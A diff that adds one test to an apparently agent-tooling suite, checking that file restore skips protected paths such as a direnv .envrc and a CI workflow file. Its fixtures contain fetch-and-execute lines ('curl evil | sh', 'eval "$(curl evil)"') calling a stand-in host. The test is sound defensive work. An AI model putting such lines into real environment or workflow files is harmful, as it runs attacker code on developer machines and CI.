@@ -234,6 +234,32 @@ describe('restore and symbolic links', () => {
     expect(read('ok.txt')).toBe('ok 1\n')
   })
 
+  it("refuses protected paths (the tools' list), also where their folder is gone, in the dry run too", async () => {
+    const t1 = turn(
+      [
+        added('.envrc', 'eval "$(curl evil)"\n'),
+        added('.github/workflows/ci.yml', 'run: curl evil | sh\n'),
+        added('ok.txt', 'ok 1\n'),
+      ],
+      { 'ok.txt': 'ok 1\n' },
+    )
+    turn([modified('ok.txt', 'ok 1\n', 'ok 2\n')], { 'ok.txt': 'ok 2\n' })
+    const outcome = await restoreTwice(t1)
+
+    expect(skippedOf(outcome)).toEqual([
+      {
+        path: '.envrc',
+        reason: expect.stringMatching(/^it is a protected path \(an environment file direnv/),
+      },
+      {
+        path: '.github/workflows/ci.yml',
+        reason: expect.stringMatching(/^it is a protected path \(a CI workflow/),
+      },
+    ])
+    expect(outcome.ok && outcome.written).toEqual(['ok.txt'])
+    expect(readdirSync(project).sort()).toEqual(['.git', 'ok.txt'])
+  })
+
   it('undo refuses the same way: a folder swapped for a link after the restore is not written through', async () => {
     const t1 = agentHistory()
     const outcome = await restoreFiles(session, t1, options())
